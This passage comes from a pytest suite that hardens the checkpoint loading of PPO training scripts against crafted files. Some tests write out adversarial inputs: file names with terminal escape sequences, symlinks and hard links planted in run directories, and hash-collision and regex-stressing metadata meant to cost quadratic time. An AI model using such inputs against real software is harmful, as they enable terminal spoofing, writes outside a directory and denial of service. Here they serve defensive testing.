            ppo_ewma.train(ppo_ewma.Args(resume=path, checkpoint_every=1))
    finally:
        holder.kill()
        holder.wait()
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64  # a dead holder's lock is taken over


# 5 --------------------------------------------------------- values that fit their type, then broke the run
def test_every_value_read_fits_the_run_or_is_refused_in_one_sentence_naming_the_file_and_key(stopped):
    path, craft = stopped
    nan = float("nan")
    named = r"^--resume .*checkpoint\.safetensors: its "
    for edit, message in [
        (lambda c: c["normalizers"]["reward"].update(mean=nan), r"reward statistics\['mean'\] is \S+, beyond any run.s"),
        (lambda c: c["normalizers"]["obs_0"].update(var=torch.full((4,), math.inf)) if "obs_0" in c["normalizers"]
         else c["models"]["agent"]["actor.bias"].fill_(nan), r"agent\['actor\.bias'\] holds nan or inf"),
        (lambda c: c["optimizers"]["optimizer"]["param_groups"][0].update(lr=nan),
         r"optimizer\['param_groups'\]\[0\]\['lr'\] is \S+, beyond any run.s"),
        (lambda c: c["normalizers"]["reward"].update(mean=torch.tensor(0.5, dtype=torch.bfloat16)),
         r"reward statistics\['mean'\] is a torch\.bfloat16 tensor of shape \[\], not a float"),
        (lambda c: c["optimizers"]["optimizer"]["state"][0].update(exp_avg=torch.zeros(())),
         r"optimizer\['state'\]\[0\]\['exp_avg'\] is a torch\.float32 tensor of shape \[\], not a torch\.float32 "
         r"tensor of shape \[64, 4\]"),
        (lambda c: c["rng"].update(torch=torch.randint(0, 256, (5056,), dtype=torch.uint8)),
         r"rng cannot be applied \(RuntimeError"),
        (lambda c: c["normalizers"]["advantages"].update(decay=1.0, weight=-64.0),
         r"advantages statistics\['decay'\] is 1\.0, where these flags set 0\.0"),
        (lambda c: c["normalizers"]["advantages"].update(weight=-64.0), r"advantages statistics\['weight'\] is negative"),
        (lambda c: c["normalizers"]["reward"].update(gamma=1.5), r"reward statistics\['gamma'\] is 1\.5, where these "
                                                                 r"flags set 0\.99"),
        (lambda c: c["normalizers"]["reward"].update(clip=-1.0), r"reward statistics\['clip'\] is -1\.0, where these "
                                                                 r"flags set 10\.0"),
        (lambda c: c.update(episode_returns=[-1e31]), r"episode_returns\[0\] is -1e\+31, beyond any run.s"),
        (lambda c: c.update(episode_returns=[1.0] * 101), r"episode_returns is not a list of at most 100 items"),
        (lambda c: c.update(global_step=2**40), r"iteration 1 does not go with global_step 1099511627776 "
                                                r"\(64 steps each\)"),
        (lambda c: c.update(iteration=3, global_step=192, num_iterations=5),
         r"iteration 3 is not one of the run's 3 iterations"),  # the flags give 3 iterations, the file 5
        (lambda c: c.update(ewma_weight=nan), r"ewma_weight is \S+, beyond any run.s"),
        (lambda c: c.update(ewma_weight=1e31), r"ewma_weight is 1e\+31, beyond any run.s \(nan, inf or over 1e\+30\)"),
        (lambda c: c.update(ewma_weight=0.5), r"ewma_weight is below 1, which no run.s does: it is not this run.s\.$"),
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=named + message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    for edit, message in [  # a dtype no run writes is compared, not converted; a number no run holds, not parsed
        (lambda c: c["models"]["agent"].update({"critic.bias": torch.zeros(1, dtype=torch.float16)}),
         r": its agent\['critic\.bias'\] is a torch\.float16 tensor of shape \[1\], not a torch\.float32 tensor of "
         r"shape \[1\]: it is not this run's\.$"),
        (lambda c: c.update(episode_returns=[10**400]), r" is not a checkpoint a run writes: it holds an int of more "
                                                        r"than 39 digits\.$"),
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=r"checkpoint\.safetensors" + message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    craft(lambda c: c.update(iteration=7, global_step=7 * 64))
    with pytest.raises(SystemExit, match=r"its iteration 7 is beyond its run's 3: it is not a checkpoint a run "
                                         r"wrote\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    craft(lambda c: c["models"]["agent"]["actor.bias"].fill_(nan))
    with pytest.raises(SystemExit, match=r"^--eval-checkpoint .*checkpoint\.safetensors: its agent\['actor\.bias'\] holds nan"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path))


def test_an_env_state_that_cannot_step_restarts_the_envs_and_the_run_goes_on(stopped, capsys):
    path, craft = stopped
    craft(lambda c: layer(c, "OrderEnforcing").update(_has_reset=False))  # would raise ResetNeeded at the first step
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64
    assert ("note: --resume: the envs restart with new episodes (the checkpoint's env state cannot step "
            "(ResetNeeded))." in capsys.readouterr().out)
    craft(lambda c: layer(c, "CartPoleEnv").update(screen=1))  # a screen it never opened: closed at the end
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64


def test_a_staleness_queue_length_that_no_run_has_is_refused(tmp_path, monkeypatch):
    import ppo_staleness

    monkeypatch.chdir(tmp_path)
    result = ppo_staleness.train(ppo_staleness.Args(**TINY, staleness=1, total_timesteps=2 * 64, checkpoint_every=1))
    path = os.path.join(result["run_dir"], "checkpoint.safetensors")
    original = read_back(path)
    os.remove(os.path.join(result["run_dir"], "model.safetensors"))
    for queued, message in [(0.5, r"its queued is a float, not an int: it is not this run's\.$"),
                            (-5, r"its queued -5 is not a queue's length under --staleness 1\.$")]:
        write_back(path, {**original, "iteration": 1, "global_step": 64, "queued": queued})
        with pytest.raises(SystemExit, match=message):
            ppo_staleness.train(ppo_staleness.Args(resume=path))


# 6 ---------------------------------------------------------------------------------- names and paths bounded
def test_names_stay_within_the_file_systems_limit(stopped, tmp_path):
    path, _ = stopped
    with pytest.raises(SystemExit, match=r"^--exp-name 'x+\.\.\.x+' must be a plain name \(no '/'\) of at most 64 characters"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, exp_name="x" * 100))
    with pytest.raises(SystemExit, match=r"^--env-id and --exp-name name the run directory '.*', 256 characters; at "
                                         r"most 240 fit: shorten them\.$"):
        ppo_ewma.train(ppo_ewma.Args(**{**TINY, "env_id": "user_envs:" + "x" * 230 + "-v0"}))
    deep = tmp_path / ("d" * 240)  # a checkpoint in a directory whose name nearly fills the limit
    deep.mkdir()
    shutil.copyfile(path, deep / "model.safetensors")
    result = ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=str(deep / "model.safetensors"), eval_episodes=1))
    assert len(os.path.basename(result["run_dir"])) < 255


def test_a_loss_that_stops_being_finite_stops_the_run_in_one_sentence_keeping_its_checkpoint(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit, match=r"^(policy|value)_loss is not finite at iteration 1: the run stops before "
                                         r"this step; its last checkpoint, if one was written, is the last good one\.$"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, learning_rate=1e30, total_timesteps=3 * 64, exp_name="huge"))
    calls, real_loss = [], ppo_ewma.decoupled_clip_loss  # finite for iteration 1's 2 x 3 steps, then nan

    def nan_from_iteration_2(*args, **kwargs):
        calls.append(1)
        return real_loss(*args, **kwargs) * (float("nan") if len(calls) > 6 else 1.0)
    with monkeypatch.context() as patched, pytest.raises(SystemExit, match=r"^policy_loss is not finite at "
                                                                            r"iteration 2: the run stops"):
        patched.setattr(ppo_ewma, "decoupled_clip_loss", nan_from_iteration_2)
        ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=3 * 64, checkpoint_every=1, exp_name="nan"))
    (run_dir,) = glob.glob("runs/*__nan__*")
    assert read_back(f"{run_dir}/checkpoint.safetensors")["iteration"] == 1  # the last good one
    assert ppo_ewma.train(ppo_ewma.Args(resume=f"{run_dir}/checkpoint.safetensors"))["global_step"] == 3 * 64


# 7 ------------------------------------------- what a reader found after round three, each closed where it enters



def test_nesting_and_size_within_the_bounds_are_read_and_beyond_them_refused(stopped):
    path, craft = stopped
    nested, nested_ok = [], []
    for _ in range(40):  # 40 lists deep; 25 deep is below JSON_DEPTH, with the keys above it
        nested = [nested]
    for _ in range(25):
        nested_ok = [nested_ok]
    for edit, message in [(lambda c: c.update(deep=nested), r"is not a checkpoint a run writes: its metadata nests "
                                                            r"deeper than 32\.$"),
                          (lambda c: c.update(deep=nested_ok), r"holds 'deep', which no ppo_ewma\.py checkpoint holds"),
                          (lambda c: c.update(big=dict.fromkeys(map(str, range(600_000)), 0)),
                           r"is not a checkpoint a run writes: its metadata holds more than 1,048,576 values\.$"),
                          (lambda c: c.update(big=dict.fromkeys(map(str, range(10_000)), 0)),
                           r"holds 'big', which no ppo_ewma\.py checkpoint holds")]:
        craft(edit)
        with pytest.raises(SystemExit, match=message):  # refused at the first pass, or as an unknown key in it
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    craft()
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64


def test_numbers_and_strings_read_are_bounded_where_the_run_can_hold_them(stopped, tmp_path, monkeypatch):
    path, craft = stopped
    for edit, message in [
        (lambda c: c["args"].update(learning_rate=10**30), r"its flag learning_rate is 10+, which --learning-rate "),
        (lambda c: c["args"].update(num_envs=2**53 + 1), r"its flag num_envs is 9007199254740993, which --num-envs "),
        (lambda c: c["args"].update(exp_name="x" * 4097), r"its flag exp_name is 'x+\.\.\.x+', which --exp-name "),
        (lambda c: c.update(global_step=-64), r"is not a ppo_ewma\.py checkpoint: its 'global_step' is -64\.$"),
        (lambda c: c.update(num_iterations=2**53 + 1), r"checkpoint: its 'num_iterations' is 9007199254740993\.$"),
        (lambda c: c.update(episode_returns=[1e31]), r"its episode_returns\[0\] is 1e\+31, beyond any run's"),
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert checkpoints.fits(2**53, int) and checkpoints.fits("x" * 4096, str) and checkpoints.fits(1e300, float)
    with pytest.raises(SystemExit, match=r"^--total-timesteps must be at most 2\*\*53, got 18014398509481984\.$"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=2**54))  # the command line's too
    craft(lambda c: c.update(episode_returns=[1e30]))  # FLOAT_BOUND itself: resumed
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64


def test_each_script_refuses_a_resume_that_no_run_of_it_writes(tmp_path, monkeypatch):
    import ppg_ewma
    import ppo_ewma_rnn

    monkeypatch.chdir(tmp_path)
    for index, (script, args, edit, message) in enumerate([
        (ppo_ewma_rnn, ppo_ewma_rnn.Args(**TINY, rnn="gru"), lambda c: c["memory"]["prev_action"].fill_(2),  # 0, 1
         r"its memory holds an action outside the action space, which no run's does: it is not this run's\.$"),
        (ppo_ewma_rnn, ppo_ewma_rnn.Args(**TINY, rnn="gru"), lambda c: c["memory"]["prev_action"].fill_(1), None),
        (ppo_ewma, ppo_ewma.Args(**TINY), lambda c: c.update(ewma_weight=0.99), r"its ewma_weight is below 1"),
        (ppo_ewma, ppo_ewma.Args(**TINY), lambda c: c.update(ewma_weight=1.0), None),  # w = 1 after a reset
        (ppg_ewma, ppg_ewma.Args(**{**TINY, "num_envs": 4}, n_pi=2, aux_minibatch_size=64),
         lambda c: c.update(iteration=1, global_step=128),  # runs write checkpoints at phase ends only: 2, 4
         r"its iteration 1 ends no phase of --n-pi 2: it is not this run's\.$"),
        (ppg_ewma, ppg_ewma.Args(**{**TINY, "num_envs": 4}, n_pi=2, aux_minibatch_size=64),
         lambda c: c.update(iteration=2, global_step=256), None),
    ]):  # each a run of 4 iterations whose final checkpoint is edited into iteration 2's
        result = script.train(dataclasses.replace(args, total_timesteps=4 * args.num_envs * args.num_steps,
                                                  exp_name=f"run{index}"))
        path = os.path.join(result["run_dir"], "checkpoint.safetensors")
        checkpoint = read_back(path)
        checkpoint.update(iteration=2, global_step=2 * args.num_envs * args.num_steps)
        edit(checkpoint)
        write_back(path, checkpoint)
        os.remove(os.path.join(result["run_dir"], "model.safetensors"))
        if message is None:
            assert script.train(type(args)(resume=path))["global_step"] == 4 * args.num_envs * args.num_steps
        else:
            with pytest.raises(SystemExit, match=message):
                script.train(type(args)(resume=path))


def test_a_run_directory_that_is_a_link_or_holds_a_hard_link_or_a_file_in_a_folders_place_is_refused(stopped,
                                                                                                      tmp_path):
    path, craft = stopped
    target, run_dir = outside(tmp_path), os.path.dirname(path)
    os.link(target, os.path.join(run_dir, "events.out.tfevents.1"))  # a write into it would land in outside.txt
    with pytest.raises(SystemExit, match=r"its directory holds a hard link, .*events\.out\.tfevents\.1, which no run "
                                         r"makes"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    os.remove(os.path.join(run_dir, "events.out.tfevents.1"))
    os.symlink(os.path.abspath(run_dir), "linked")  # the run directory itself, reached through a link
    with pytest.raises(SystemExit, match=r"^--resume linked/checkpoint\.safetensors: linked is a link, not a directory"):
        ppo_ewma.train(ppo_ewma.Args(resume="linked/checkpoint.safetensors"))
    open(os.path.join(run_dir, "videos"), "w").close()
    with pytest.raises(SystemExit, match=r"holds .*videos, which the run writes as a directory\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path, capture_video=True))
    assert target.read_text() == "the user's own file\n"
    weird = tmp_path / "from\x1b[2Ja tarball"  # a name that would move the terminal's cursor
    weird.mkdir()
    shutil.copyfile(path, weird / "model.safetensors")
    with pytest.raises(SystemExit, match=r"^--eval-checkpoint .*from\\x1b\[2Ja tarball/model\.safetensors holds "
                                         r"characters that do not print: rename it\.$"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=str(weird / "model.safetensors")))


def test_a_writer_removes_the_temporary_files_of_one_killed_mid_write_and_nothing_else(tmp_path):
    path = str(tmp_path / "checkpoint.safetensors")
    for stale in (".checkpoint.safetensors.0123456789abcdef.tmp", ".checkpoint.safetensors.fedcba9876543210.tmp"):
        (tmp_path / stale).write_bytes(b"torn")
    os.mkdir(tmp_path / ".checkpoint.safetensors.0000000000000000.tmp")  # not a file: left alone
    harness.save_checkpoint(path, {"iteration": 1})
    assert sorted(os.listdir(tmp_path)) == [".checkpoint.safetensors.0000000000000000.tmp", "checkpoint.safetensors"]


# ============================================================ round four: a safetensors file, rules not cases
# 3 ------------------------------------------------------------------------- huge but finite numbers
@pytest.mark.parametrize("script", ["ppo_ewma", "ppg_ewma", "ppo_staleness", "vmpo", "ppo_er"])
def test_a_policy_whose_outputs_are_not_finite_stops_in_one_sentence_wherever_a_script_samples(tmp_path, monkeypatch,
                                                                                                script):
    module = __import__(script)
    monkeypatch.chdir(tmp_path)
    if script == "ppo_er":  # its tanh MLP keeps the outputs of weights within the bound of a float32 read finite
        model_file(module, "model.safetensors", fill=3e38)  # beyond it (float32's largest is 3.4e38): refused as read
        message = r"its agent\['[\w.]+'\] holds nan or inf, or values beyond 1\.8e\+18: it is not this run's\.$"
    else:  # weights within it whose outputs overflow: the IMPALA CNN's ReLU layers multiply them
        model_file(module, "model.safetensors", fill=1e18, build_on="starpilot")
        message = (r"the policy's outputs are not finite: no action can be sampled from them \(its weights and "
                   r"statistics made them so: it is not a trained run's\)\.$")
    with pytest.raises(SystemExit, match=r"^--eval-checkpoint model\.safetensors: " + message):
        module.train(module.Args(eval_checkpoint="model.safetensors", cuda=False))
    real_broadcast = harness.broadcast_weights

    def huge(*modules):  # the weights a run starts from, as if a file had set them
        real_broadcast(*modules)
        with torch.no_grad():
            for parameter in (p for m in modules for p in m.parameters()):
                parameter.fill_(3e38)
    monkeypatch.setattr(harness, "broadcast_weights", huge)
    config = dict(TINY, env_id="Pendulum-v1", num_steps=64) if script == "ppo_er" else dict(TINY)
    config.update(dict(n_pi=1, aux_minibatch_size=64) if script == "ppg_ewma" else {})
    with pytest.raises(SystemExit, match=r"^The policy's outputs are not finite in iteration 1: training made them so: "
                                         r"no action can be sampled from them\.$"):
        module.train(module.Args(**config, total_timesteps=2 * 64))


def test_numbers_from_a_resumed_file_that_make_the_policy_overflow_are_named_as_its(stopped):
    path, craft = stopped
    craft(lambda c: [weight.fill_(3e38) for weight in c["models"]["agent"].values()])  # float32's max 3.4e38: a
    with pytest.raises(SystemExit, match=r"its agent\['[\w.]+'\] holds nan or inf, or values beyond 1\.8e\+18: it "
                                         r"is not this run's\.$"):  # square overflows, and no trained run has it
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    craft(lambda c: layer(c, "CartPoleEnv").update(tau=1e30, force_mag=1e30, x_threshold=1e30,
                                                   theta_threshold_radians=1e30))  # within FLOAT_BOUND
    with pytest.raises(SystemExit, match=r"^The policy's outputs are not finite in iteration 2: the run resumed "
                                         r"from --resume .*checkpoint\.safetensors, whose weights, statistics and "
                                         r"env state it trained on: no action can be sampled from them\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


# 4 ------------------------------------------------------------------- statistics whose arithmetic overflows
def test_statistics_whose_derived_values_overflow_are_refused_when_restored(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=2 * 64, norm_value=True))
    path = os.path.join(result["run_dir"], "checkpoint.safetensors")
    original = read_back(path)
    os.remove(os.path.join(result["run_dir"], "model.safetensors"))
    for value, message in [({"weight": 1e-200, "sum": 1e30}, r"its value statistics' std cannot be computed "
                                                             r"\(OverflowError\): it is not this run's\.$"),
                           ({"weight": 1e-300, "sum": 1e30, "sum_sq": 0.0}, r"its value statistics' mean is inf: it "
                                                                            r"is not this run's\.$")]:
        checkpoint = copy.deepcopy(original)
        checkpoint["normalizers"]["value"].update(value)  # each within FLOAT_BOUND; sum / weight is not
        write_back(path, {**checkpoint, "iteration": 1, "global_step": 64})
        with pytest.raises(SystemExit, match=r"^--resume .*checkpoint\.safetensors: " + message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))


# 5 ----------------------------------------------------------------------- every worker's part, checked alike
def test_every_workers_part_is_checked_as_the_first_workers_is(stopped):
    path, craft = stopped
    part = worker_part(read_back(path))
    for workers, message in [
        ([{key: value for key, value in part.items() if key != "normalizers"}],
         r"checkpoint\.safetensors: its part of worker 1 is not a ppo_ewma\.py checkpoint: its 'normalizers' is "
         r"missing\.$"),
        ([[1, 2]], r"checkpoint\.safetensors: its part of worker 1 is not one a run writes\.$"),
        ([dict(part, iteration=1)], r"checkpoint\.safetensors: its part of worker 1 is not one a run writes\.$"),
        ([dict(part, extra=1)], r"checkpoint\.safetensors: its part of worker 1 holds 'extra', which no "),
    ]:
        craft(lambda checkpoint: checkpoint.update(workers=workers))
        for args in (ppo_ewma.Args(resume=path), ppo_ewma.Args(eval_checkpoint=path)):  # read alike by either
            with pytest.raises(SystemExit, match=message):
                ppo_ewma.train(args)


# 6, 7 ------------------------------------------------------------- the run directory's names and depth
def test_the_walk_of_a_run_directory_is_bounded_and_says_every_name_escaped(stopped, tmp_path, monkeypatch):
    path, _ = stopped
    run_dir = os.path.dirname(path)
    forged = os.path.join(run_dir, "\x1b[2J\x1b[31mforged line")  # would clear the screen and print in red
    os.symlink("/", forged)
    with pytest.raises(SystemExit) as refused:
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert "\x1b" not in str(refused.value) and "holds a link, " in str(refused.value)
    assert str(refused.value).endswith(r"/\x1b[2J\x1b[31mforged line, which no run makes: the resumed run would write "
                                       r"through it; resume a copy of the checkpoint in a directory of its own.")
    os.remove(forged)
    folder = os.open(run_dir, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(1100):  # deeper than PATH_MAX allows a path to name: made one folder at a time
        os.mkdir("d" * 8, dir_fd=folder)
        inner = os.open("d" * 8, os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(folder)
    started = time.monotonic()
    with pytest.raises(SystemExit, match=r"its directory holds folders nested deeper than 8, .*/dddddddd, which no "
                                         r"run makes"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert time.monotonic() - started < 10
    subprocess.run(["rm", "-rf", os.path.join(run_dir, "d" * 8)], check=True)  # deeper than shutil.rmtree goes

    def unreadable(folder):
        raise PermissionError(13, "Permission denied", folder)
    monkeypatch.setattr(checkpoints.os, "scandir", unreadable)
    with pytest.raises(SystemExit, match=r": its directory cannot be walked \(Permission denied: runs/CartPole"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


# 8 ---------------------------------------------------------------------------------- a signal while it loads
def test_a_signal_while_a_checkpoint_is_read_stops_at_once(stopped, monkeypatch):
    path, _ = stopped
    before = signal.getsignal(signal.SIGINT)
    real_read = checkpoints.read

    def slow_read(*args, **kwargs):  # Ctrl-C while safetensors reads a large file
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(5)
        return real_read(*args, **kwargs)
    monkeypatch.setattr(checkpoints, "read", slow_read)
    for args in (ppo_ewma.Args(resume=path), ppo_ewma.Args(eval_checkpoint=path)):
        started = time.monotonic()
        with pytest.raises(KeyboardInterrupt):  # Python's own, as before any run starts
            ppo_ewma.train(args)
        assert time.monotonic() - started < 4 and signal.getsignal(signal.SIGINT) is before


# 9 ----------------------------------------------------------- the run directory swapped while the run trains
def test_a_run_directory_swapped_for_a_link_while_the_run_trains_gets_its_checkpoints(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    target = tmp_path / "elsewhere"
    target.mkdir()
    real_end = harness.Run.end_iteration

    def swap_after_iteration_1(run, iteration, *args, **kwargs):
        if iteration == 1:  # the checked directory renamed, a link to another put in its place
            run.writer.flush()  # TensorBoard writes by path, from a thread of its own: not while its path is gone
            os.rename(run.run_dir, run.run_dir + ".moved")
            os.symlink(target, run.run_dir)
        real_end(run, iteration, *args, **kwargs)
    monkeypatch.setattr(harness.Run, "end_iteration", swap_after_iteration_1)
    result = ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=3 * 64, checkpoint_every=1))
    moved = sorted(os.listdir(result["run_dir"] + ".moved"))
    assert {"checkpoint.safetensors", "model.safetensors", "run.lock"} <= set(moved)
    assert not {"checkpoint.safetensors", "model.safetensors"} & set(os.listdir(target))  # TensorBoard's may be
    assert read_back(result["run_dir"] + ".moved/checkpoint.safetensors")["iteration"] == 3


# 10 ------------------------------------------------------ round five: what an adversarial read found after round four
def test_metadata_built_to_cost_quadratic_time_is_read_or_refused_in_linear_time(stopped):
    # each took minutes before (2-3 MB files): int keys that hash alike (multiples of 2**61 - 1) within the values'
    # bound; tensors named once each, checked against a set rebuilt per name; an unterminated string of escaped quotes,
    # which the string-emptying regex tried again from every quote; now each is refused within a second or two
    path, _ = stopped
    collide, n = 2**61 - 1, 40_000
    for text, message in [(json.dumps({"rng": {"$int_keys": [[i * collide, 0] for i in range(1, n)]}}),
                           r"which is none of the format's tags"),
                          ('"' + '\\"' * 80_000, r"Unterminated string")]:
        safetensors.torch.save_file({}, path, metadata={"checkpoint": text})
        started = time.perf_counter()
        with pytest.raises(SystemExit, match=r"is not a checkpoint a run writes: .*" + message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
        assert time.perf_counter() - started < 3
    raw_file(path, {"__metadata__": {"checkpoint": json.dumps({"episode_returns": [
        {"$tensor": f"{i:x}"} for i in range(n)]})}, **{f"{i:x}": {"dtype": "F32", "shape": [0],
                                                                  "data_offsets": [0, 0]} for i in range(n)}})
    started = time.perf_counter()
    with pytest.raises(SystemExit, match=r"is not a checkpoint a run writes: its metadata names no script \(its script "
                                         r"is None\)\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert time.perf_counter() - started < 3


def test_values_that_pass_every_bound_and_fail_later_are_refused_or_taken_as_the_run_holds_them(stopped, tmp_path):
    path, craft = stopped
    for edit, message in [  # float32 returns whose square overflows; a torch state no draw reaches
        (lambda c: c["normalizers"]["reward"]["returns"].fill_(1e19),
         r"its reward statistics\['returns'\] holds nan or inf, or values beyond 1\.8e\+18: it is not this run's"),
        (lambda c: c["rng"].update(torch=bad_torch_state(c["rng"]["torch"])),
         r"its rng\['torch'\] is not a state torch's generator reaches"),  # it read beyond its 624 words
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))
    # a 0-dim tensor where the run holds a Python bool: taken as a bool, which Adam's fused step takes
    craft(lambda c: c["optimizers"]["optimizer"]["param_groups"][0].update(amsgrad=torch.tensor(False)))
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64
    raw_file(path, {"__metadata__": {"model": json.dumps({"x": {"$array": {"dtype": "float32", "shape": [0, 10**30],
                                                                           "data": []}}})}})
    with pytest.raises(SystemExit, match=r"is not a model a run writes: it holds .*which is none of the format's tags"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path))
    array = {"$array": {"dtype": "float32", "shape": [1], "data": [0.0]}}
    raw_file(path, {"__metadata__": {"model": json.dumps({"x": [array] * 3})}})  # a model holds two: a mean, a var
    with pytest.raises(SystemExit, match=r"is not a model a run writes: its metadata holds 3 arrays\.$"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path))


def bad_torch_state(state):
    """torch's CPU generator state with mt19937's words left and next index that no draw reaches (624 and 624)."""
    data = bytearray(state.numpy().tobytes())
    data[8:12], data[16:24] = (624).to_bytes(4, "little"), (624).to_bytes(8, "little")
    return torch.tensor(list(data), dtype=torch.uint8)


def test_an_evaluations_run_directory_is_named_in_printable_characters_whatever_the_working_directorys(stopped,
                                                                                                     tmp_path,
                                                                                                     monkeypatch):
    path, _ = stopped
    folder = tmp_path / "evil\033[31mRED\033]0;title\007x"  # a terminal's colour and title escapes
    folder.mkdir()
    shutil.copy(path, folder / "checkpoint.safetensors")
    monkeypatch.chdir(folder)
    result = ppo_ewma.train(ppo_ewma.Args(eval_checkpoint="checkpoint.safetensors", eval_episodes=1, cuda=False))
    assert os.path.basename(result["run_dir"]).startswith("evil--31mRED--0-title-x__eval__")


def test_a_policy_that_is_not_finite_on_one_worker_stops_every_worker(monkeypatch):
    # the weights are every worker's, the observations each one's own: a worker whose outputs overflow must not stop
    # alone, leaving the others waiting in the next collective
    run = type("Run", (), {"last_safe_iteration": 0, "origin": "training made them so"})()
    harness.Run.check_policy(run, torch.zeros(2))  # one process, finite: goes on
    monkeypatch.setattr(harness, "WORKERS", type("Workers", (), {"largest": lambda self, value, device: 1})())
    with pytest.raises(SystemExit, match=r"^The policy's outputs are not finite in iteration 1: training made them so"):
        harness.Run.check_policy(run, torch.zeros(2))  # finite here, not on another worker
